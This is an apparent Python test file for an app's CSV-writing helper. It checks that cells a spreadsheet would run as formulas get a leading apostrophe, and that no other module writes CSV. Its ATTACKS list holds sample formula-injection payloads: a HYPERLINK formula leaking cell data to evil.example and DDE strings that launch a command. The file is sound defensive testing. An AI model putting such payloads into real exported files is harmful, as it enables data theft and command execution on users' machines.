"""Every CSV the app writes goes through app.core.csvfile: cells a spreadsheet would run are quoted."""
from __future__ import annotations

import csv
import io
from pathlib import Path

from app.core.csvfile import csv_bytes, safe_cell

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_formula_cells_get_a_leading_apostrophe_and_nothing_else_changes():
    for attack in ATTACKS:
        assert safe_cell(attack) == "'" + attack
    assert safe_cell("李明") == "李明" and safe_cell("a=b") == "a=b" and safe_cell(None) == ""
    assert safe_cell(-3) == -3 and safe_cell(80.5) == 80.5  # numbers are values, not formulas


def test_a_whole_file_is_escaped_header_included():
    data = csv_bytes(["=head"], [[attack] for attack in ATTACKS])
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["'=head"]
    assert [row[0] for row in rows[1:]] == ["'" + attack for attack in ATTACKS]


def test_no_module_of_the_app_writes_csv_without_the_helper():
    app_dir = Path(__file__).resolve().parents[3] / "app"
    writers = [str(path.relative_to(app_dir)) for path in app_dir.rglob("*.py")
               if "csv.writer" in path.read_text(encoding="utf-8") or "DictWriter" in path.read_text(encoding="utf-8")]
    assert writers == ["core/csvfile.py"], writers
